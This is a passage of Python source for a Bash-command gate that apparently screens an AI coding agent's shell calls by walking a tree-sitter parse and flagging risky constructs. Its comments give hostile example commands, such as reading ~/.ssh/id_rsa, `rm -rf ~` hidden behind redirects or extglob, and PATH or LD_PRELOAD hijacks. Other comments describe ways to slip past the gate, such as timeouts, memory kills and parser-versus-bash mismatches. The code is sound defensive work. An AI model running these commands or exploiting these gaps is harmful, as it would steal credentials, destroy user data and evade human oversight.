"""Bash text → every simple command in it, as frozen `Command` values.

tree-sitter-bash gives an error-tolerant syntax tree; this module walks the *whole* tree with
an explicit stack (no recursion, so 50,000 levels of nesting still give an answer) and turns
each simple command, wherever it sits, into a `Command`: lists, pipelines, subshells,
``{ }``, ``if/for/while/until/case`` bodies, function bodies, ``$( )``, backticks, ``<( )``,
``>( )``, substitutions inside ``${...}``, ``[[ ]]`` and ``(( ))``, here-document bodies.

Whatever the walker cannot vouch for becomes a `Problem` (a REVIEW finding for the host):
``ERROR``/``MISSING`` nodes, node types it does not know, function definitions (a function
can shadow a command name), a dynamic command name, brace expansion or a glob in command
position.
"""

from __future__ import annotations

from time import monotonic

from gatekeeper.model import Command, Redirect, Word, static_command
from gatekeeper.records import dataclass, twin_of

TYPE_CHECKING = False  # typing.TYPE_CHECKING, without importing typing
if TYPE_CHECKING:
    from collections.abc import Callable
    from typing import Any

    from tree_sitter import Node, Parser, Tree

# Statement-level nodes whose children are walked as statements.
_CONTAINERS = {
    "program",
    "list",
    "compound_statement",
    "subshell",
    "do_group",
    "if_statement",
    "elif_clause",
    "else_clause",
    "while_statement",
    "until_statement",
    "for_statement",
    "c_style_for_statement",
    "case_statement",
    "case_item",
    "negated_command",
    "test_command",
    "binary_expression",
    "unary_expression",
    "ternary_expression",
    "postfix_expression",
    "parenthesized_expression",
    "arithmetic_expansion",
    "variable_assignments",
    "subscript",  # `(( a[$(cmd)] ))`: bash runs cmd when it evaluates the subscript
}
# Arithmetic assignment operators, and the nodes that make their text arithmetic.
_ARITH_ASSIGN = {"=", "+=", "-=", "*=", "/=", "%=", "<<=", ">>=", "&=", "^=", "|="}
_ARITH_CONTEXTS = {"compound_statement", "c_style_for_statement", "arithmetic_expansion"}
_ARITH_TESTS = {"-eq", "-ne", "-lt", "-le", "-gt", "-ge"}
_TEST_NESTING = {"parenthesized_expression", "unary_expression", "binary_expression"}
# How many parents a check climbs to find its context: `Node.parent` walks down from the
# root, so climbing a whole 50,000-deep `((((…))))` cost minutes. Past it: GK-SHELL-006.
_CLIMB = 64
# Tokens and leaves that carry no command and no expansion.
_INERT = {
    "comment",
    "word",
    "number",
    "raw_string",
    "ansi_c_string",
    "string_content",
    "variable_name",
    "special_variable_name",
    "test_operator",
    "regex",
    "extglob_pattern",
    "file_descriptor",
    "heredoc_start",
    "heredoc_end",
    "heredoc_content",
    "simple_expansion",
    "array",
    "brace_expression",
}
_SUBSTITUTION_NODES = {"command_substitution", "process_substitution"}
# Leaves the parser keeps as text inside an expansion, where bash may expand them.
_TEXT_LEAVES = {"raw_string", "regex", "word"}
_EXPANDING = {"expansion", "arithmetic_expansion"}
MAX_DEPTH = 16
# Loops and assignments looked at for their values in one text (`shell.loopvars`): each
# look scans the whole text, so 100,000 assignments must not cost 100,000 scans.
_MAX_LOOKS = 32
# The longest text a command, or a `$( )` or an expansion in a word, keeps whole (longer,
# its middle is cut). Nested substitutions hold each other's text: kept whole,
# `echo $(echo $(…))` 10,000 deep stored ~800 MB in quadratic time, 20,000 deep 3 GB. What
# is cut is walked anyway, as the commands inside the `$( )`; reasons show 200 characters.
TEXT_CLIP = 512
# The most characters of loop and assignment values one walk puts in words: each `"$f"`
# holds f's whole value, so `f=<150 KB>; cat "$f"x "$f"x …` (10,000 times, 210 KB of text)
# made 1.5 GB of words in 5 s, and a 1 MiB text 40 GB: the hook killed for its memory
# lets the call through. Past it, `$f` is left unknown (the walk stays conservative).
_MAX_BOUND_CHARS = 1 << 20
# Word parts whose text is the literal itself (never clipped: it is what the word says).
_LITERAL_PARTS = {
    "word",
    "raw_string",
    "ansi_c_string",
    "string_content",
    "number",
    "extglob_pattern",
    "regex",
    "brace_expression",
}
_SHELLS = {"sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox", "fish"}


@dataclass(frozen=True, slots=True)
class Problem:
    """Something in the text the walker could not vouch for (→ at least REVIEW)."""

    rule: str
    reason: str
    text: str


@dataclass(frozen=True, slots=True)
class Script:
    """Every simple command of a Bash text, and every problem found on the way.

    `and_chain` is True when the whole text is one ``a && b && c`` list (no ``;``, ``||``,
    ``&`` or second line at its top level) that starts with a simple command: everything
    after that first command runs only if it succeeded, so after a leading ``cd DIR &&`` the
    rest certainly starts in DIR. `assigned` holds (name, value text) of the variables set by
    statements that are no command (``FOO=1;``, ``for FOO in a b``); declarations
    (``export FOO=1``) are commands.
    """

    commands: tuple[Command, ...]
    problems: tuple[Problem, ...]
    and_chain: bool = False
    assigned: tuple[tuple[str, str], ...] = ()


_PARSER: list[Parser] = []


class TooSlow(BaseException):
    """The analysis of one call ran past its deadline (`set_deadline`).

    A BaseException, like KeyboardInterrupt: no plugin's `except Exception` turns it into a
    finding and goes on; `Engine.decide` answers "ask the human" for it. Claude Code lets a
    call through when its hook times out, so no text may keep Tier 1 busy that long.
    """


# When the current call's analysis must give up (`time.monotonic()`); set by the engine
# for each decision, never elsewhere, so `parse` outside a decision has no deadline.
_DEADLINE = [float("inf")]
# Texts this long are parsed with tree-sitter's progress callback, which can stop it:
# tree-sitter-bash's error recovery is super-linear on some texts (`ls | ` 3,000 times
# with nothing after the last `|`: 2 s; 10,000 times: minutes). Shorter texts parse at once.
_WATCHED_FROM = 1024


def set_deadline(when: float) -> None:
    """The moment (`time.monotonic()`) the current call's analysis gives up (TooSlow)."""
    _DEADLINE[0] = when


def check_deadline() -> None:
    """Raise TooSlow if the current call's analysis ran past its deadline."""
    if monotonic() > _DEADLINE[0]:
        raise TooSlow


def _parse(src: bytes) -> Tree:
    parser = _parser()
    if len(src) < _WATCHED_FROM or _DEADLINE[0] == float("inf"):
        return parser.parse(src)
    deadline = _DEADLINE[0]
    view = memoryview(src)
    try:
        return parser.parse(
            lambda offset, _point: view[offset:],
            progress_callback=lambda _offset, _error: monotonic() > deadline,
        )
    except ValueError:  # "Parsing failed": the callback stopped it
        parser.reset()  # or the next parse resumes this one
        raise TooSlow from None


def _parser() -> Parser:
    # Built once per process: loading the grammar is the expensive part.
    if not _PARSER:
        from gatekeeper.shell.grammar import bash_language, tree_sitter_binding

        tree_sitter = tree_sitter_binding()  # the extension, without the package's typing
        _PARSER.append(tree_sitter.Parser(tree_sitter.Language(bash_language())))
    return _PARSER[0]


def tree_of(src: bytes) -> Tree:
    """tree-sitter's tree of a Bash text, without the parser's slow end of a pipeline.

    tree-sitter-bash takes 100-300 µs for a text that ends with the last stage of a pipeline
    of three or more (`find . | sort | head`), against 10-40 µs for the same text followed
    by a newline. A text that is one such pipeline is parsed with the newline, and that
    tree is kept only where it cannot differ: with `&&`, `||`, `;`, `&` or a newline between
    statements, or a redirect-only stage (`2>&1 | a | b > o | c`), tree-sitter groups the
    stages one way or the other depending on what follows the text, so any `&`, `;`, `<`,
    `>`, newline or `||` in the text means the text as it is; so does a trailing blank or
    backslash (which a newline would end or continue), an error in the tree, and a newline
    that is not outside every statement. `tests/test_shell_tail.py` compares the two parses
    over generated pipelines.
    """
    if (
        src.count(b"|") >= 2
        and src[-1:] not in (b"\\", b" ", b"\t", b"\r", b"")
        and not any(c in src for c in b"<>&;\n")
        and b"||" not in src
    ):
        tree = _parse(src + b"\n")
        root = tree.root_node
        if not root.has_error and all(c.end_byte <= len(src) for c in root.children):
            return tree
    return _parse(src)


@dataclass(slots=True)
class _Item:
    node: Node
    where: str
    redirects: tuple[Redirect, ...] = ()
    piped: bool = False
    heredoc_of: Node | None = None  # the redirected statement whose here-document feeds it
    # Words after a redirect's target (`cat 2>/dev/null ~/.ssh/id_rsa`), the command's own
    extra: tuple[Word, ...] = ()
    fd_word: bool = False  # its last word is the descriptor of the redirect after it (`0<f`)


class _Walker:
    def __init__(
        self,
        src: bytes,
        home: str | Callable[[], str],
        depth: int,
        chars: str | None = None,
        source: str = "",
    ) -> None:
        self.src = src
        self.chars = chars  # the text itself when it is ASCII (a byte offset is a character's)
        self.source = source  # the text, each command's `source`
        self._home = home
        self.depth = depth
        self.stack: list[_Item] = []
        self.commands: list[Command] = []
        self.problems: list[Problem] = []
        # The words the last `word` call's brace expansion made (`{a,b}`: `a`, `b`), or None.
        self.alternatives: list[Word] | None = None
        # (name, value text) of assignments that are no command: `x=$T` alone, `for x in`.
        self.copies: list[tuple[str, str]] = []
        # `for` loops whose variable takes only the loop's words (`shell.loopvars`):
        # (name, body start, body end, the words); None when loop values are not followed.
        self.loops: list[tuple[str, int, int, tuple[Word, ...]]] | None = []
        self.bound: dict[str, Word] = {}  # the loop values of the command being built
        self.resolved = False  # whether a command was built with loop values
        self.looks = 0  # loops and assignments looked at (`loopvars.MAX_LOOKS`)
        self.spent = 0  # characters of loop values put in words (`_MAX_BOUND_CHARS`)
        # tree-sitter-bash hangs the words after a redirect's target (`> f a b`) and a
        # here-document line's own redirects (`cat <<EOF > f`) on the redirect; bash gives
        # them to the command. `redirect` leaves them here for the command to take.
        self.spilled: list[Word] = []
        self.spilled_redirects: list[Redirect] = []

    # -- helpers -------------------------------------------------------------------------

    @property
    def home(self) -> str:
        """What `~` and `$HOME` expand to (asked for only when a word holds one)."""
        if not isinstance(self._home, str):
            self._home = self._home()
        return self._home

    def text(self, node: Node) -> str:
        if self.chars is not None:
            return self.chars[node.start_byte : node.end_byte]
        return self.src[node.start_byte : node.end_byte].decode("utf-8", "replace")

    def clip(self, node: Node) -> str:
        """The node's text, its middle cut (` ... `) when it is longer than `TEXT_CLIP`
        characters; a cut text is longer than `TEXT_CLIP` (an exact text never is: `xargs`'
        producer lookup tells them apart by length)."""
        start, end = node.start_byte, node.end_byte
        if end - start <= TEXT_CLIP:
            return self.text(node)
        half = TEXT_CLIP // 2
        if self.chars is not None:
            return f"{self.chars[start : start + half]} ... {self.chars[end - half : end]}"
        # Not ASCII: `half` characters each side take up to 4 bytes each (plus one cut
        # character at a window's edge); a node within two windows is decoded whole.
        window = 4 * half + 4
        src = self.src
        if end - start <= 2 * window:
            text = src[start:end].decode("utf-8", "replace")
            return text if len(text) <= TEXT_CLIP else f"{text[:half]} ... {text[-half:]}"
        head = src[start : start + window].decode("utf-8", "replace")[:half]
        return f"{head} ... {src[end - window : end].decode('utf-8', 'replace')[-half:]}"

    def problem(self, rule: str, reason: str, node: Node) -> None:
        self.problems.append(Problem(rule, reason, self.clip(node)[:200]))

    def push_children(self, item: _Item, node: Node, where: str | None = None) -> None:
        for child in reversed(node.children):
            self.stack.append(_Item(child, where or item.where, item.redirects, item.piped))

    # -- the statement walk --------------------------------------------------------------

    def walk(self, root: Node) -> None:
        self.stack.append(_Item(root, "top"))
        watched = root.end_byte >= _WATCHED_FROM and _DEADLINE[0] != float("inf")
        steps = 0
        while self.stack:
            item = self.stack.pop()
            if watched:
                steps += 1
                if not steps & 1023:
                    check_deadline()
            node = item.node
            kind = node.type
            if node.is_missing:
                self.problem("GK-SHELL-001", "the command is incomplete (a token is missing)", node)
                continue
            if kind == "ERROR":
                self.problem("GK-SHELL-001", "the command does not parse as bash", node)
                self.push_children(item, node)
                continue
            if not node.is_named:
                continue  # punctuation and keywords
            if kind == "command":
                self.command(item, heredoc_of=item.heredoc_of)
            elif kind == "pipeline":
                self.pipeline(item)
            elif kind == "redirected_statement":
                self.redirected(item)
            elif kind in {"declaration_command", "unset_command"}:
                self.declaration(item)
            elif kind == "variable_assignment":
                self.assignment_value(node, item.where)
                if self.loops is not None:
                    self.assigned(node, item.where)
            elif kind == "function_definition":
                name = node.child_by_field_name("name")
                fname = self.text(name) if name is not None else "?"
                self.problem(
                    "GK-SHELL-004",
                    f"defines the shell function `{fname}`, which can shadow a command name",
                    node,
                )
                self.push_children(item, node, "function body")
            elif kind in _SUBSTITUTION_NODES:
                label = "substitution" if kind == "command_substitution" else "process substitution"
                if not (self.src[node.start_byte] == 0x60 and self.backticks(node, label)):
                    self.push_children(item, node, label)
            elif kind in {"expansion", "string", "concatenation"}:
                self.scan(node, item.where)
            elif kind in _CONTAINERS:
                start = node.start_byte
                if kind == "binary_expression" and node.child_count == 3:
                    self.arith_assignment(node)
                if kind in ("binary_expression", "unary_expression", "subscript"):
                    self.operand_assignment(node)
                if kind == "for_statement" and (var := node.child_by_field_name("variable")):
                    self.exported_name(self.text(var), node)
                    values = node.children_by_field_name("value")
                    self.copies.append((self.text(var), " ".join(map(self.text, values))))
                    if self.loops is not None and values:
                        self.loop(node, var, values, item.where)
                if kind == "negated_command" and self.src[start + 1 : start + 2] == b"(":
                    # `!(ls)#; rm -rf ~`: with extglob on (bash-completion sets it), bash reads
                    # the word `!(ls)#` (no comment), and runs rm; the parser, `! (ls)` + comment
                    self.problem("GK-SHELL-001", "`!(` is a glob to bash with extglob", node)
                self.push_children(item, node)
            elif kind in _INERT:
                continue
            elif kind in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
                # A redirect without a command (`> file` alone) still writes the file.
                spilled = len(self.spilled)
                spilled_redirects = len(self.spilled_redirects)
                redirect = self.redirect(node, item.where)
                extra = tuple(self.spilled[spilled:])
                del self.spilled[spilled:]
                more = tuple(self.spilled_redirects[spilled_redirects:])
                del self.spilled_redirects[spilled_redirects:]
                if extra:  # `f() { :; } > a b`: no command to give `b` to
                    self.problem("GK-SHELL-001", "a word after a redirect of no command", node)
                if redirect is not None:
                    self.commands.append(
                        Command(
                            words=extra,
                            redirects=(redirect, *more),
                            where=item.where,
                            text=self.text(node),
                            source=self.source,
                        )
                    )
            else:
                self.problem("GK-SHELL-002", f"unrecognised shell construct `{kind}`", node)
                self.push_children(item, node)

    def pipeline(self, item: _Item) -> None:
        stages = [c for c in item.node.children if c.is_named]
        pushed: list[_Item] = []
        for i, stage in enumerate(stages):
            pushed.append(_Item(stage, item.where, item.redirects, item.piped or i > 0))
        self.stack.extend(reversed(pushed))

    def redirected(self, item: _Item) -> None:
        if self.loops and not self.bound and self.looped_statement(item):
            return
        node = item.node
        redirects: list[Redirect] = list(item.redirects)
        piped = item.piped
        body: Node | None = None
        herestring = False
        spilled = len(self.spilled)
        spilled_redirects = len(self.spilled_redirects)
        for i, child in enumerate(node.children):
            field = node.field_name_for_child(i)
            if child.type == "ERROR" and body is not None:
                if self.text(child) == "<<" and _next_is_input_redirect(node, i):
                    # tree-sitter splits `cmd > f <<< 'x'` into `<<` (ERROR) and `< 'x'`.
                    herestring = True
                else:
                    self.problem("GK-SHELL-001", "the command does not parse as bash", child)
                    self.push_children(item, child)
                continue
            if field == "body" or (
                body is None and child.type not in _REDIRECTS and child.is_named
            ):
                body = child
                continue
            if herestring and child.type == "file_redirect":
                herestring = False
                words = [c for c in child.children if c.is_named]
                target = self.word(words[0], item.where) if words else Word("")
                for more in words[1:]:  # `cat > f <<< x ~/.ssh/id_rsa`: cat's argument
                    word = self.word(more, item.where)
                    self.spilled.extend(self.alternatives or (word,))
                redirects.append(Redirect("<<<", target, ""))
                piped = True
                continue
            if child.type in _REDIRECTS:
                r = self.redirect(child, item.where)
                if r is not None:
                    redirects.append(r)
                if child.type in ("heredoc_redirect", "herestring_redirect") or (
                    r is not None and r.op in ("<", "<&", "<>")
                ):
                    piped = True
        extra = (*self.spilled[spilled:], *item.extra)
        del self.spilled[spilled:]
        redirects += self.spilled_redirects[spilled_redirects:]
        del self.spilled_redirects[spilled_redirects:]
        if body is not None:
            body = _unnegated(body, self.src)
        if body is None:
            # A redirect with no command (`> file`) still creates or truncates the file.
            self.commands.append(
                Command(
                    extra, (), tuple(redirects), item.where, self.text(node), piped, self.source
                )
            )
            return
        if body.type == "command":
            fd_word = _glued_descriptor(body, node, self.src)
            command_item = _Item(body, item.where, tuple(redirects), piped, extra=extra)
            command_item.fd_word = fd_word
            self.command(command_item, node)
        elif body.type in ("list", "pipeline"):
            # tree-sitter hangs `a && b > f` on the whole list, but bash gives the redirect
            # (and a here-document's stdin) to the last command only.
            parts: list[_Item] = []
            self.split_tail(body, item, tuple(redirects), piped, parts)
            if parts and parts[-1].node.type == "command":
                parts[-1].heredoc_of = node
                parts[-1].fd_word = _glued_descriptor(parts[-1].node, node, self.src)
            if parts:
                parts[-1].extra = extra
            self.stack.extend(reversed(parts))
        else:
            if extra:  # `{ a; } > f b`: bash stops at a syntax error; the gate cannot follow
                self.problem("GK-SHELL-001", "a word after the redirect of a compound", node)
            self.stack.append(_Item(body, item.where, tuple(redirects), piped))

    def split_tail(
        self,
        node: Node,
        outer: _Item,
        tail_redirects: tuple[Redirect, ...],
        tail_piped: bool,
        out: list[_Item],
    ) -> None:
        """Queue the parts of a list/pipeline; only its last command gets `tail_redirects`."""
        while True:
            named = [c for c in node.children if c.is_named and c.type != "comment"]
            last = len(named) - 1
            for i, child in enumerate(named):
                piped = outer.piped or (node.type == "pipeline" and i > 0)
                if i < last:
                    out.append(_Item(child, outer.where, outer.redirects, piped))
                    continue
                tail = _unnegated(child, self.src)  # `a && ! b > f`: b gets the redirect
                if tail.type in ("list", "pipeline"):
                    outer = _Item(tail, outer.where, outer.redirects, piped)
                    node = tail
                    break
                else:
                    out.append(_Item(tail, outer.where, tail_redirects, piped or tail_piped))
                    return
            else:
                return

    def redirect(self, node: Node, where: str) -> Redirect | None:
        kind = node.type
        if kind == "heredoc_redirect":
            for i, child in enumerate(node.children):
                if node.field_name_for_child(i) == "argument":  # `cat <<EOF ~/.ssh/id_rsa`
                    word = self.word(child, where)
                    self.spilled.extend(self.alternatives or (word,))
                elif child.type == "file_redirect":  # `cat <<EOF > f`: cat writes f
                    r = self.redirect(child, where)
                    if r is not None:
                        self.spilled_redirects.append(r)
                elif child.type == "heredoc_body":
                    self.scan(child, where)  # unquoted delimiters expand $( ) in the body
                    if _unparsed_in_body(node, child, self):
                        # tree-sitter-bash reads no backtick in a body, and after `<<-` misses
                        # an expansion right after a stripped tab
                        reason = "a substitution in a here-document the parser does not read"
                        self.problem("GK-SHELL-001", reason, child)
                    if _ends_elsewhere(node, child, self):
                        reason = "bash ends this here-document at another line than the parser"
                        self.problem("GK-SHELL-001", reason, child)
                elif child.is_named and child.type not in ("heredoc_start", "heredoc_end"):
                    # tree-sitter hangs the rest of `cat <<EOF | sh` off the redirect.
                    self.stack.append(_Item(child, where, (), True))
            return Redirect("<<", Word(_heredoc_text(node, self)), "")
        if kind == "herestring_redirect":
            target = [c for c in node.children if c.is_named]
            word = self.word(target[-1], where) if target else Word("")
            return Redirect("<<<", word, "")
        fd = ""
        op = ""
        dest: Node | None = None
        for i, child in enumerate(node.children):
            field = node.field_name_for_child(i)
            if child.type == "file_descriptor" and field != "destination":
                fd = self.text(child)
            elif not child.is_named or (
                dest is None and child.type == "ERROR" and self.text(child) in ("<", ">")
            ):
                # tree-sitter-bash reads the `>` (or the `<`) of `3<>FILE` as an error: part
                # of the op, not its target (bash opens FILE, or a socket, to read and write)
                op += self.text(child)
            elif dest is None:
                dest = child
            elif not (i == len(node.children) - 1 and _descriptor_of(child, node.next_sibling, self.src)):
                # Extra words after a redirect target (`> a b`) belong to the command line:
                # `rm 2>/dev/null -rf ~` runs `rm -rf ~` (but in `>a 0<b`, `0` is b's fd).
                word = self.word(child, where)
                self.spilled.extend(self.alternatives or (word,))
        if dest is None:
            return None
        opened = self.word(dest, where)
        if self.alternatives is not None and opened.glob:
            # `cat < .*/.ssh/config`: bash opens the one name the glob makes, `..` too
            self.spilled_redirects += [Redirect(op or ">", w, fd) for w in self.alternatives[1:]]
        return Redirect(op or ">", opened, fd)

    def declaration(self, item: _Item) -> None:
        node = item.node
        words: list[Word] = []
        assigned: list[tuple[str, Word]] = []
        for child in node.children:
            if child.type == "variable_assignment":
                self.subscript_commands(child, item.where)
                name = child.child_by_field_name("name")
                value = child.child_by_field_name("value")
                vtext = self.word(value, item.where).text if value is not None else ""
                ntext = self.text(name) if name is not None else ""
                dynamic = value is not None and self.word(value, item.where).dynamic
                if _appends(child):
                    dynamic = True  # `export PAGER+=x`: the old value, then x
                words.append(Word(f"{ntext}={vtext}", dynamic))
                assigned.append((ntext, Word(vtext, dynamic)))
            elif not child.is_named or child.type == "variable_name":
                # `declare -p PATH`: a name as written, no expansion (it was read as one)
                words.append(Word(self.text(child)))
            else:
                word = self.word(child, item.where)
                words.extend(self.alternatives or (word,))
        self.commands.append(
            Command(
                tuple(words),
                (),
                item.redirects,
                item.where,
                self.text(node),
                item.piped,
                self.source,
            )
        )
        if assigned:
            self.value_commands(assigned, node, item.where)

    def assignment_value(self, node: Node, where: str) -> None:
        from gatekeeper.shell.envvars import HARMLESS_VALUE_NAMES, VALUE_KINDS, harmless_setting

        name = self.assignment_name(node)
        self.subscript_commands(node, where)
        value = node.child_by_field_name("value")
        word = None
        if value is not None and (name in VALUE_KINDS or name in HARMLESS_VALUE_NAMES):
            word = self.word(value, where)
            if _appends(node):
                word = Word(word.text, True)  # `PAGER+=x`: the old value, then x
        if word is None or word.dynamic or not harmless_setting(name, word.text):
            self.exported_name(name, node)  # (`PAGER=cat; git log` sets nothing that runs)
        if word is not None:
            self.value_commands([(name, word)], node, where)
        if value is not None:
            self.scan(value, where)
            self.copies.append((name, self.text(value)))
            if "[" in (text := self.text(value)):
                from gatekeeper.shell.subscripts import holds_subscript_code

                if holds_subscript_code(text):  # `X='a[$(cmd)]'; echo $((X))` runs cmd
                    self.problem("GK-BASH-006", "a value whose subscript runs a command", node)

    def subscript_commands(self, assignment: Node, where: str) -> None:
        """Queue the `$( )`s of an assigned array element's subscript: bash runs them
        (`a[$(cmd)]=1`, `declare a[$(cmd)]=1`)."""
        name = assignment.child_by_field_name("name")
        if name is not None and name.type == "subscript":
            index = name.child_by_field_name("index")
            if index is not None:
                self.scan(index, where)

    def exported_name(self, name: str, node: Node) -> None:
        """A statement `PATH=/x` (or `for PATH in /x`) that sets a variable able to run code.

        A variable of the environment is exported: a new value is what every later command
        gets (`PATH=/tmp/x; ls` runs /tmp/x/ls, `HOME=/tmp/x; git status` reads
        /tmp/x/.gitconfig). As a prefix (`PATH=/x ls`) it is GK-ENV-001 on the command."""
        from gatekeeper.shell.envvars import arith_names, env_risk

        base, bracket, subscript = name.partition("[")
        if bracket and ("$(" in subscript or "`" in subscript):
            # `a['$(cmd)']=1`: bash evaluates the subscript, quoted or not, and runs cmd
            self.problem("GK-BASH-006", "an array subscript that runs a command", node)
        if bracket:
            for inner in arith_names(subscript):  # `a[PATH=1]=x`: the subscript assigns
                self.exported_name(inner, node)
        if env_risk(base) == "exec":
            self.problem(
                "GK-ENV-001",
                f"setting {name} can make the commands after it load or run other code",
                node,
            )

    def runtime_name(self, node: Node) -> None:
        self.problem(
            "GK-ENV-001",
            "assigns the variable whose name is known only at run time: it may be one that "
            "runs code (PATH, LD_PRELOAD, BASH_ENV)",
            node,
        )

    def arith_assignment(self, node: Node) -> None:
        """`(( PATH = 1 ))` sets PATH as `PATH=1` does (then `ls` runs ./1/ls); `(( $x = 1 ))`
        sets the variable x names. (`=` in `[[ a = b ]]` compares.)"""
        left, op, _ = node.children
        if op.type not in _ARITH_ASSIGN:
            return
        parent = node.parent
        climbed = 0
        while parent is not None and parent.type not in _ARITH_CONTEXTS:
            if parent.type == "test_command":
                return
            climbed += 1
            if climbed > _CLIMB:
                self.problem("GK-SHELL-006", "arithmetic nested too deep to follow", node)
                return
            parent = parent.parent
        if parent is None or (
            parent.type == "compound_statement" and self.src[parent.start_byte] != 0x28
        ):
            return
        if left.type in ("variable_name", "subscript"):
            self.exported_name(self.text(left), node)
        else:
            self.runtime_name(node)

    def operand_assignment(self, node: Node) -> None:
        """`[[ PATH=1 -eq 0 ]]`, `[[ -v a[PATH=1] ]]` and `(( a[PATH=1] ))` set PATH as
        `PATH=1` does: bash evaluates the operand of an arithmetic test, and a subscript,
        as arithmetic. The parser leaves that text a plain word."""
        from gatekeeper.shell.envvars import arith_names

        if node.type == "subscript":
            index = node.child_by_field_name("index")
            texts = [self.text(index)] if index is not None and index.type == "word" else []
        else:
            parent = node.parent
            climbed = 0
            while parent is not None and parent.type in _TEST_NESTING:
                climbed += 1
                if climbed > _CLIMB:
                    self.problem("GK-SHELL-006", "a test nested too deep to follow", node)
                    return
                parent = parent.parent
            if parent is None or parent.type != "test_command":
                return
            operators = [self.text(c) for c in node.children if c.type == "test_operator"]
            operands = [c for c in node.named_children if c.type != "test_operator"]
            if operators[:1] == ["-v"]:  # `[ -v 'a[X]' ]` too
                texts = [self.text(c).partition("[")[2] for c in operands]
            elif (
                operators[:1]
                and operators[0] in _ARITH_TESTS
                and self.src[parent.start_byte + 1] == 0x5B  # `[[`: `[ X -eq 0 ]` wants digits
            ):
                texts = [self.text(c) for c in operands if c.type != "unary_expression"]
            else:
                return
        for text in texts:
            if "=" in text:
                for name in arith_names(text.replace('"', "").replace("'", "")):
                    self.exported_name(name, node)

    def assignment_name(self, node: Node) -> str:
        """The name of an assignment; a problem when it is no bash identifier: tree-sitter
        reads `1=x ls` and `1vk=/a` as assignments, bash runs `1=x` as the command."""
        name = node.child_by_field_name("name")
        text = self.text(name) if name is not None else ""
        base = text.split("[", 1)[0]
        if not (
            base.isascii()
            and (base[:1].isalpha() or base[:1] == "_")
            and base.replace("_", "a").isalnum()
        ):
            self.problem(
                "GK-SHELL-001",
                "the word before `=` is no variable name: bash runs it as a command",
                node,
            )
        return text

    def loop(self, node: Node, var: Node, values: list[Node], where: str) -> None:
        """Note a `for` loop whose variable takes only the loop's own words."""
        self.looks += 1
        if self.looks > _MAX_LOOKS or self.loops is None:
            return
        from gatekeeper.shell.loopvars import MAX_VALUES, loop_variable

        body = node.child_by_field_name("body")
        if body is None:
            return
        if node.children[0].type != "for":
            return  # `select f in …` sets f to what the user types, if it is no word
        words: list[Word] = []
        for value in values:
            raw = self.text(value)
            if value.type == "command_substitution" and raw.startswith("$("):
                # `for f in $(git ls-files)`: each `$f` is a word of that output, as in
                # `wc -l $(git ls-files)` (its commands are walked with the loop's words)
                words.append(Word(raw, True))
                continue
            if "$" in raw or "`" in raw or "(" in raw:
                return
            word = self.word(value, where)
            if word.dynamic:
                return
            words.extend(self.alternatives or (word,))
        # Byte offsets: latin-1 keeps one character per byte, and names are ASCII.
        script = self.chars if self.chars is not None else self.src.decode("latin-1")
        if len(words) <= MAX_VALUES and loop_variable(
            script, self.text(var), var.start_byte, (body.start_byte, body.end_byte)
        ):
            self.loops.append((self.text(var), body.start_byte, body.end_byte, tuple(words)))

    def assigned(self, node: Node, where: str) -> None:
        """Note `name=value` standing alone in this shell (in `&&`/`||` lists, `!`, `{ }`
        groups, a `( )` subshell or a pipeline's stage up to its end, bodies of `if`, loops
        and functions; not in a substitution, nor sent to the background), whose variable
        takes no other value: later `$name` are its value, as a loop's words are
        (`shell.loopvars`); after the first place of such a list or in a body that may not
        run, its value or an unknown one.

        The value is not split, globbed or brace-expanded by the assignment: a glob in it
        is only text until an unquoted `$name` globs it."""
        self.looks += 1
        if self.looks > _MAX_LOOKS:
            return
        from gatekeeper.shell.loopvars import loop_variable

        statement = node
        if (parent := node.parent) is not None and parent.type == "variable_assignments":
            statement = parent  # `CI=1 f=x`: each assigned in turn, all certainly
        maybe = False
        end = len(self.src)
        background = b"&" in self.src
        while (parent := statement.parent) is not None:
            if background and _backgrounded(statement, parent):
                # `f=x & cat "$f"`: the statement runs in a subshell, its value ends with it
                end = min(end, statement.end_byte)
            kind = parent.type
            if kind == "program":
                break
            if kind == "list":
                if parent.children[0].start_byte != statement.start_byte:
                    # `cd . && f=~/.ssh/id_rsa; cat "$f"`: the assignment may not run, so a
                    # later `$f` is its value or the one before, unknown: both are judged
                    maybe = True
            elif kind == "subshell":
                end = min(end, parent.end_byte)  # `( f=x; cat "$f" )`: the value ends there
            elif kind == "pipeline":
                # `{ f=x; cat "$f"; } | head`: a stage is a subshell, the value ends with it
                # (a use in another stage is outside it: `f=x | cat "$f"` is not followed)
                end = min(end, statement.end_byte)
            elif kind in _MAYBE_RUN:
                maybe = True  # `if true; then f=x; fi`, a loop's or a function's body
            elif kind not in ("negated_command", "redirected_statement") and not (
                kind == "compound_statement" and self.src[parent.start_byte] == 0x7B
            ):
                return  # a pipeline stage, a substitution: a subshell of its own
            statement = parent
        if parent is None or self.loops is None:
            return
        name = node.child_by_field_name("name")
        value = node.child_by_field_name("value")
        if name is None or value is None or name.type != "variable_name":
            return
        raw = self.text(value)
        if value.type == "command_substitution" and raw.startswith("$("):
            word = Word(raw, True)  # `d=$(git rev-parse --show-toplevel)`: as unknown
        elif "$" in raw or "`" in raw or "(" in raw or "{" in raw or ":~" in raw:
            return
        else:
            word = self.word(value, where)
            if word.dynamic or self.alternatives:
                return
            word = Word(word.text)
        script = self.chars if self.chars is not None else self.src.decode("latin-1")
        if loop_variable(script, self.text(name), name.start_byte, (node.end_byte, end)):
            words = (word, Word("$" + self.text(name), True)) if maybe else (word,)
            self.loops.append((self.text(name), node.end_byte, end, words))

    def bindings(self, node: Node) -> list[dict[str, Word]] | None:
        """The loop values a command inside loop bodies is built with, one dict per copy;
        None when it uses no loop variable or holds a substitution."""
        from gatekeeper.shell.loopvars import MAX_COPIES

        text = self.text(node)
        if "$" not in text or "$(" in text or "`" in text or "<(" in text or ">(" in text:
            return None
        used = [
            (name, words)
            for name, start, end, words in self.loops or ()
            if start <= node.start_byte
            and node.end_byte <= end
            and ("$" + name in text or "${" + name + "}" in text)
        ]
        copies: list[dict[str, Word]] = [{}]
        for name, words in used:
            if len(copies) * len(words) > MAX_COPIES:
                return None
            copies = [{**c, name: w} for c in copies for w in words]
        return copies if used else None

    def bound_value(self, raw: str, quoted: bool, whole: bool) -> Word | None:
        """The word a loop variable's `$name` / `${name}` stands for in the command being
        built; None when it is no loop variable or the word is not known from it.

        A glob's match is any file name the glob matches, whatever characters it holds
        (`;`, quotes, blanks): it stands for the glob only as a whole word of its own
        (`"$f"`, as in `cat *.py`), never inside other text (`bash -c "cat $f"` runs the
